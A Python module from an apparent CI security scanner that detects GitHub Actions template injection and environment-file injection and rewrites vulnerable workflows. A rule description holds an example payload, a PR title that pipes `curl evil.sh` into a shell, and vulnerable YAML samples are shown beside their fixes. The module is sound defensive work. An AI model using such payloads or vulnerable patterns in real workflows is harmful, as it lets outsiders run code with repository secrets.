"""Template injection: attacker-controlled ``${{ }}`` expanded into code (``run:``,
``actions/github-script``), directly or through ``env:``, step outputs and job outputs."""

from __future__ import annotations

import re

from pipesec.core.model import Confidence, Severity
from pipesec.core.yamlpos import YNode
from pipesec.scanners.pipelines import expressions as ex
from pipesec.scanners.pipelines.common import Ctx, Edit, rule
from pipesec.scanners.pipelines.gha_model import PRIVILEGED_TRIGGERS, Step, Workflow
from pipesec.scanners.pipelines.gha_taint import Taint, Tainter

REFS = (
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
)

INJECTION = rule(
    "gha/template-injection",
    "Attacker-controlled expression expanded into a run: script",
    Severity.HIGH,
    "GitHub substitutes ${{ }} expressions into the script text before the shell runs it. "
    "A pull request title, branch name, issue body or commit message is chosen by whoever "
    'opens it, so `a"; curl evil.sh | sh; "` in a title runs their code with the job\'s '
    "token and secrets.",
    "Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) and use the "
    'shell variable ("$TITLE") in the script; `pipesec fix` does this.',
    """on: pull_request_target
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Thanks for ${{ github.event.pull_request.title }}"
""",
    """on: pull_request_target
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Thanks for $TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
""",
    cwe=("CWE-78", "CWE-94"),
    references=REFS,
)

SCRIPT_INJECTION = rule(
    "gha/template-injection-script",
    "Attacker-controlled expression expanded into an action's code input",
    Severity.HIGH,
    "Some actions run an input as code after expression substitution: actions/github-script "
    "`script:` (JavaScript), azure/cli and azure/powershell `inlineScript:`, "
    "appleboy/ssh-action `script:` and others; attacker text in the expression becomes code "
    "running with the token.",
    "Read the value from the event payload inside the script (`context.payload.issue.title`) "
    "or from `process.env` after passing it through `env:`.",
    """on: issues
permissions:
  issues: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
        with:
          script: |
            console.log("${{ github.event.issue.title }}")
""",
    """on: issues
permissions:
  issues: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
        with:
          script: |
            console.log(context.payload.issue.title)
""",
    cwe=("CWE-94",),
    references=REFS,
)

INPUT_INJECTION = rule(
    "gha/template-injection-input",
    "Workflow or action input expanded into a run: script",
    Severity.LOW,
    "String inputs of workflow_dispatch, workflow_call and composite actions come from "
    "whoever triggers or calls the workflow; expanding them into the script text lets a "
    "crafted value run commands.",
    "Pass the input through `env:` and use the shell variable.",
    """on:
  workflow_dispatch:
    inputs:
      version:
        type: string
permissions: {}
jobs:
  tag:
    runs-on: ubuntu-latest
    steps:
      - run: git tag ${{ inputs.version }}
""",
    """on:
  workflow_dispatch:
    inputs:
      version:
        type: string
permissions: {}
jobs:
  tag:
    runs-on: ubuntu-latest
    steps:
      - run: git tag "$VERSION"
        env:
          VERSION: ${{ inputs.version }}
""",
    cwe=("CWE-78",),
    references=REFS,
    confidence=Confidence.MEDIUM,
)

GITHUB_ENV = rule(
    "gha/github-env-injection",
    "Attacker-controlled value written to $GITHUB_ENV or $GITHUB_PATH",
    Severity.HIGH,
    "Lines written to $GITHUB_ENV become environment variables of every later step "
    "(LD_PRELOAD, NODE_OPTIONS, BASH_ENV ...) and $GITHUB_PATH changes which binaries run; "
    "a value with a newline sets any variable the attacker wants.",
    "Do not export untrusted values through $GITHUB_ENV; pass them with `env:` per step, or "
    "use a heredoc delimiter that is random per run and validate the value first.",
    """on: pull_request_target
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "BRANCH=$HEAD" >> "$GITHUB_ENV"
        env:
          HEAD: ${{ github.head_ref }}
""",
    """on: pull_request_target
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$HEAD"
        env:
          HEAD: ${{ github.head_ref }}
""",
    cwe=("CWE-74",),
    references=("https://docs.zizmor.sh/audits/#github-env",),
)

RULES = (INJECTION, SCRIPT_INJECTION, INPUT_INJECTION, GITHUB_ENV)

_ENV_WRITE = re.compile(
    r">>\s*[\"']?(?:\$\{?|%)(GITHUB_ENV|GITHUB_PATH)\b"
    r"|(?:Out-File|Add-Content|Set-Content|>>)[^|;\n]*\$env:(GITHUB_ENV|GITHUB_PATH)\b",
    re.IGNORECASE,
)
_VAR = re.compile(r"\$(?:env:)?\{?([A-Za-z_][A-Za-z0-9_]*)")
#: what makes a written line depend on the run: a variable, a command or an expression
_DYNAMIC = re.compile(r"\$|%[A-Za-z_][A-Za-z0-9_]*%|`|!\w+!")
#: what the runner itself sets: writing these is not writing anyone's input
_RUNNER_VALUE = re.compile(
    r"\$\{?(?:HOME|PWD|RUNNER_[A-Z_]+|GITHUB_WORKSPACE|GITHUB_ACTION_PATH|GITHUB_SHA|GITHUB_RUN_[A-Z_]+)\b\}?"
    r"|\$env:(?:HOME|RUNNER_[A-Z_]+|GITHUB_WORKSPACE|GITHUB_ACTION_PATH)\b"
    r"|\$\{\{\s*(?:github\.(?:action_path|workspace|sha|run_id|run_number)|runner\.\w+)\s*\}\}"
)
#: triggers whose runs hold secrets while reading what an outsider wrote
_ENV_TRIGGERS = frozenset({"pull_request_target", "workflow_run"})
#: actions whose inputs are code that the action runs -> those inputs
SCRIPT_INPUTS: dict[str, tuple[str, ...]] = {
    "actions/github-script": ("script",),
    "azure/cli": ("inlineScript",),
    "azure/powershell": ("inlineScript",),
    "appleboy/ssh-action": ("script",),
    "jannekem/run-python-script-action": ("script",),
    "cloudflare/wrangler-action": ("command", "preCommands", "postCommands"),
    "addnab/docker-run-action": ("run",),
    "amadevus/pwsh-script": ("script",),
    # inputs CodeQL's models list as code-injection sinks
    "mikefarah/yq": ("cmd",),
    "tibdex/backport": ("body_template", "head_template", "labels_template", "title_template"),
}
_ENV_NAME_BAD = re.compile(r"[^A-Z0-9_]")


def _applies(t: Taint, wf: Workflow) -> bool:
    """Is the source populated by any trigger of this workflow?"""
    if t.kind == "input" or not t.events or wf.kind == "action":
        return True
    trig = wf.trigger_names
    if not trig or "workflow_call" in trig:
        return True
    return bool(trig & t.events)


def _severity(t: Taint, wf: Workflow) -> Severity:
    trig = wf.trigger_names & (t.events or wf.trigger_names)
    if trig & PRIVILEGED_TRIGGERS:
        return Severity.CRITICAL
    if trig and trig <= {"pull_request"}:
        return Severity.MEDIUM
    if trig and trig <= {"push"}:
        return Severity.MEDIUM
    return Severity.HIGH


def env_name_for(expr: ex.Expr) -> str:
    path = ex.context_path(expr)
    if path is None:
        return "UNTRUSTED_VALUE"
    parts = [p for p in path if p not in ("github", "event", "outputs", "*", "steps", "needs")]
    if path[0] == "env" and len(path) == 2:
        return path[1].upper()
    name = "_".join(parts[-2:]) if len(parts) >= 2 else (parts[0] if parts else "VALUE")
    name = _ENV_NAME_BAD.sub("_", name.upper()).strip("_")
    if not name or name[0].isdigit():
        name = "V_" + name
    return name


def _bash_like(step: Step) -> bool:
    shell = step.shell.split()[0] if step.shell else ""
    if shell in ("bash", "sh"):
        return True
    if shell:
        return False
    labels = " ".join(step.job.runs_on_labels()).lower()
    return "windows" not in labels


def _in_single_quotes(text: str, offset: int) -> bool:
    line_start = text.rfind("\n", 0, offset) + 1
    return text.count("'", line_start, offset) % 2 == 1


def _fix_edits(
    step: Step, run_node: YNode, fixes: list[tuple[ex.Fenced, ex.Expr, int]], ctx: Ctx
) -> tuple[Edit, ...]:
    """Edits that move the expressions into ``env:`` and reference ``$NAME`` instead."""
    doc = ctx.doc
    run_text = run_node.text() or ""
    if not _bash_like(step) or run_node.style not in (None, "|", "'", '"'):
        return ()
    edits: list[Edit] = []
    new_env: dict[str, str] = {}
    env_node = step.node.get("env")
    existing = {k.upper(): (v.text() or "") for k, v in env_node.pairs()} if env_node else {}
    if env_node is not None and (not env_node.is_map or doc.text[env_node.start] == "{"):
        return ()
    for fenced, parsed, occ in fixes:
        if _in_single_quotes(run_text, fenced.start):
            continue  # the shell would not expand "$VAR" there; leave it for a human
        path = ex.context_path(parsed)
        if path is not None and path[0] == "env" and len(path) == 2:
            name = path[1].upper()
        else:
            name = env_name_for(parsed)
            value = fenced.raw
            base, n = name, 2
            while (name in existing and existing[name] != value) or (
                name in new_env and new_env[name] != value
            ):
                name, n = f"{base}_{n}", n + 1
            if existing.get(name) != value:
                new_env[name] = value
        start = run_node.find(fenced.raw, occ)
        if start is None:
            return ()
        end = start + len(fenced.raw)
        edits.append(Edit(start, end, "${" + name + "}"))
    if new_env:
        run_key = step.node.key("run")
        if run_key is None:
            return ()
        if env_node is not None and env_node.value:
            first_key = next(iter(env_node.keys.values()))
            indent = " " * (first_key.col - 1)
            last = max(env_node.value.values(), key=lambda v: v.end)
            ins = _line_end_after(doc.text, last.end)
            body = "".join(f"{indent}{k}: {v}\n" for k, v in new_env.items())
        else:
            indent = " " * (run_key.col - 1)
            ins = _line_end_after(doc.text, run_node.end)
            body = f"{indent}env:\n" + "".join(f"{indent}  {k}: {v}\n" for k, v in new_env.items())
        edits.append(Edit(ins, ins, body))
    return tuple(edits)


def _line_end_after(text: str, offset: int) -> int:
    """The start of the line after the one holding ``offset`` (or offset itself at a start)."""
    if offset > 0 and offset <= len(text) and text[offset - 1] == "\n":
        return offset
    nl = text.find("\n", offset)
    return len(text) if nl < 0 else nl + 1


def check(wf: Workflow, ctx: Ctx) -> None:
    tainter = Tainter(wf)
    for job in wf.jobs:
        for step in job.steps:
            run_node = step.run_node
            if run_node is not None and run_node.is_scalar:
                _check_code(wf, ctx, tainter, step, run_node, INJECTION, fixable=True)
                _check_env_write(wf, ctx, tainter, step, run_node)
            inputs = SCRIPT_INPUTS.get(step.action)
            if inputs and step.with_ is not None:
                for name in inputs:
                    script = step.with_.get(name)
                    if script is not None and script.is_scalar:
                        _check_code(wf, ctx, tainter, step, script, SCRIPT_INJECTION, fixable=False)


def _check_code(
    wf: Workflow,
    ctx: Ctx,
    tainter: Tainter,
    step: Step,
    node: YNode,
    r_attacker: object,
    *,
    fixable: bool,
) -> None:
    text = node.text() or ""
    if "${{" not in text:
        return
    seen: dict[str, int] = {}
    found: list[tuple[ex.Fenced, ex.Expr, int, Taint]] = []
    for fenced in ex.find_fenced(text):
        occ = seen.get(fenced.raw, 0)
        seen[fenced.raw] = occ + 1
        try:
            parsed = ex.parse(fenced.inner)
        except ex.ExprError:
            continue
        t = tainter.expr(parsed, step.job, step)
        if t is None:
            continue
        found.append((fenced, parsed, occ, t))
    if not found:
        return
    edits: tuple[Edit, ...] = ()
    if fixable:
        edits = _fix_edits(step, node, [(f, p, o) for f, p, o, _ in found], ctx)
    for i, (fenced, _parsed, occ, t) in enumerate(found):
        span = node.locate(fenced.raw, occ)
        dormant = not _applies(t, wf)
        if dormant:
            r = INJECTION if r_attacker is INJECTION else SCRIPT_INJECTION
            ctx.hit(
                r,
                span,
                f"{fenced.raw.strip()} carries {t.source} into step '{step.name()}'; no trigger"
                " of this workflow sets it today, but the step runs it as code the day one does",
                identity=f"{step.job.id}:{step.name()}:{fenced.raw}",
                severity=Severity.LOW,
                confidence=Confidence.LOW,
                edits=edits if i == 0 else (),
                source=t.source,
            )
            continue
        if t.kind == "input":
            r = INPUT_INJECTION
            sev = (
                Severity.LOW
                if wf.kind == "action" or "workflow_call" not in wf.triggers
                else (Severity.MEDIUM)
            )
        else:
            r = INJECTION if r_attacker is INJECTION else SCRIPT_INJECTION
            sev = Severity.LOW if t.kind == "pusher" else _severity(t, wf)
        via = f" (via {t.describe()})" if t.via else ""
        where = "script" if r is SCRIPT_INJECTION else "run: script"
        who = {
            "input": "the caller controls",
            "pusher": "anyone who can push a branch or tag chooses (git allows `$(...)` in names)",
        }.get(t.kind, "an outsider controls")
        ctx.hit(
            r,
            span,
            f"{fenced.raw.strip()} carries {t.source}{via}, which {who}, into the {where}"
            f" of step '{step.name()}'",
            identity=f"{step.job.id}:{step.name()}:{fenced.raw}",
            severity=sev,
            confidence=Confidence.MEDIUM if t.kind == "pusher" else None,
            edits=edits if i == 0 else (),
            source=t.source,
        )


def _check_env_write(wf: Workflow, ctx: Ctx, tainter: Tainter, step: Step, node: YNode) -> None:
    text = node.text() or ""
    if "GITHUB_ENV" not in text and "GITHUB_PATH" not in text:
        return
    for lineno, line in enumerate(text.split("\n")):
        m = _ENV_WRITE.search(line)
        if m is None:
            continue
        head = line[: m.start()] + " " + line[m.end() :]
        t = tainter.text(head, step.job, step, 0)
        if t is None:
            for var in _VAR.findall(head):
                t = tainter.path(("env", var.lower()), step.job, step, 0, False)
                if t is not None:
                    break
        target = m.group(1) or m.group(2)
        span = node.locate(line.strip(), 0) if line.strip() else node.locate("")
        identity = f"{step.job.id}:{step.name()}:{lineno}:{target}"
        if t is not None and t.kind == "attacker" and _applies(t, wf):
            ctx.hit(
                GITHUB_ENV,
                span,
                f"step '{step.name()}' writes {t.source}"
                + (f" (via {t.describe()})" if t.via else "")
                + f" to ${target}",
                identity=identity,
            )
        elif _DYNAMIC.search(_RUNNER_VALUE.sub("", line[: m.start()].split("#", 1)[0])) and (
            wf.kind == "action" or wf.trigger_names & _ENV_TRIGGERS
        ):
            # a value computed at run time, where pipesec cannot follow where it comes from
            where = "a composite action" if wf.kind == "action" else "a privileged workflow"
            ctx.hit(
                GITHUB_ENV,
                span,
                f"step '{step.name()}' writes a value computed at run time to ${target} in"
                f" {where}; if any part of it comes from an outsider, it sets variables of"
                " every later step",
                identity=identity,
                severity=Severity.MEDIUM,
                confidence=Confidence.LOW,
            )
